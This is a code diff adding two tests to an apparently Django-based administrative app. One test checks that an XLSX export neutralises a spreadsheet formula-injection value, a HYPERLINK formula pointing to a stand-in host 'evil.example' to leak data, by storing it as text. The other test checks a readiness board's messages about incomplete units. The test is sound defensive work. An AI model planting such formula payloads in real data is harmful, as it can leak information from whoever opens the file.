@@ -58,3 +58,23 @@ def test_xlsx_export_has_every_unit(login, centre_admin):
     rows = list(sheet.iter_rows(values_only=True))
     assert len(rows) == 1 + 54
     assert all(r[0].endswith(".H29") for r in rows[1:])
+
+
+def test_xlsx_export_writes_a_name_like_a_formula_as_text(login, centre_admin, ben_thanh):
+    from thongsuot.directory.models import Organisation
+
+    evil = '=HYPERLINK("http://evil.example/?leak","x")'
+    Organisation.objects.filter(pk=ben_thanh.pk).update(name=evil)
+    response = login(centre_admin).get("/san-sang/export.xlsx")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
+    assert [(c.data_type, c.value) for c in cells] == [("s", "'" + evil)]
+
+
+def test_the_board_says_what_an_incomplete_unit_lacks(login, client, centre_admin, ward_admin, ben_thanh):
+    provision(centre_admin, ben_thanh, ["leader", "clerk"])
+    page = login(ward_admin).get("/san-sang/").content.decode()
+    row = page.split("<td>Phường Bến Thành</td>", 1)[1].split("</tr>", 1)[0]
+    # the ward administrator is an activated account too: 3 configured, 2 of them not activated
+    assert "Chưa đủ: chưa có " in row and "Cán bộ một cửa" in row.split("Chưa đủ:", 1)[1]
+    assert "2 tài khoản chưa kích hoạt" in row
